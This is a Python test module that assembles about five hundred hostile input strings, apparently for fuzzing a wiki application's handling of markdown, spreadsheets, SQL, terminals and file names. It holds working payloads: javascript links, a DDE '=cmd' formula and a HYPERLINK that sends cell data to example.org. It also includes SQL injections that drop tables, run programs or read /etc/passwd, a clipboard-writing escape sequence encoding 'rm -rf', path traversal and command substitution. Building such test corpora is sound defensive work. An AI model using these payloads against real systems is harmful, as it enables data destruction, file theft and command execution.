"""Five hundred texts that try to act: in a page, a dossier, a sheet, a statement, a terminal, a line, a file name."""

from itertools import chain, product

from hostile import HOSTILE_STRINGS

MARKDOWN = tuple(
    head + body
    for head, body in product(
        ("", "x ", "\n\n", "| ", "\\"),
        (
            "[a](javascript:alert(1))",
            "![a](https://example.org/a.png)",
            "<https://example.org/a>",
            "<script>alert(1)</script>",
            "```\ncode\n```",
            "# heading",
            "1. item",
            "> quotation",
            "a | b |\n| --- | --- |\n| c",
            "[a]: javascript:alert(1)\n[a]",
            "<!-- hidden -->",
            "**a** _b_ ~~c~~ `d`",
        ),
    )
)
FORMULAS = tuple(
    head + body
    for head, body in product(
        ("", " ", "\t", "\n", "\xa0", "x\n"),
        (
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            '=HYPERLINK("https://example.org/?"&A1,"a")',
            "=cmd|' /C calc'!A0",
            '=WEBSERVICE("https://example.org/")',
            "＝1＋1",
            '"=1+1"',
            '",=1+1,"',
        ),
    )
)
STATEMENTS = tuple(
    head + body
    for head, body in product(
        ("'", '"', "`", "\\'", ""),
        (
            "); DROP TABLE articles; --",
            "; DELETE FROM conflicts; /*",
            " OR 1=1 --",
            " UNION SELECT sql FROM sqlite_master --",
            "; ATTACH DATABASE '/tmp/wikiconflict.evil' AS evil; --",
            "; COPY articles TO PROGRAM 'touch /tmp/wikiconflict.evil'; --",
            "$$; SELECT pg_sleep(60); $$",
            "%s %(a)s :a ? $1 {0} {a}",
            "\\x00\\",
            "|| pg_read_file('/etc/passwd') ||",
        ),
    )
)
TERMINAL = tuple(
    head + body
    for head, body in product(
        ("", "a", "\r"),
        (
            "\x1b[31mred",
            "\x1b[2J\x1b[H",
            "\x1b]0;title\x07",
            "\x1b]52;c;cm0gLXJm\x07",
            "\x1b]8;;https://example.org\x07link\x1b]8;;\x07",
            "\x1bP+q544e\x1b\\",
            "\x9b31m",
            "\x9d0;title\x9c",
            "\x07\x08\x08\x08",
            "\x0e\x0f",
            "\x7f\x7f",
            "[red]markup[/red]",
            "[link=https://example.org]a[/link]",
            "%d %n",
            "\x00",
        ),
    )
)
_TURNS, _ENDS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068", "\u202c\u2069\u200f\u200e\u061c"
BIDI = tuple(f"a{turn}b{end}c" for turn, end in product(_TURNS, _ENDS))
FILES = tuple(
    head + body
    for head, body in product(
        ("../", "/", "..\\", "", "C:\\"),
        ("etc/passwd", "-rf", "$(touch evil)", "; touch evil", "con", ".hidden", "a\nb", "a\x00b"),
    )
)
MORE = ("~root", "|touch evil", "`touch evil`", "*", "?", "a" * 300, "ハ" * 200, " ", ".", "..")

#: Five hundred of them.
PAYLOADS = tuple(dict.fromkeys(chain(HOSTILE_STRINGS, MARKDOWN, FORMULAS, STATEMENTS, TERMINAL, BIDI, FILES, MORE)))[
    :500
]
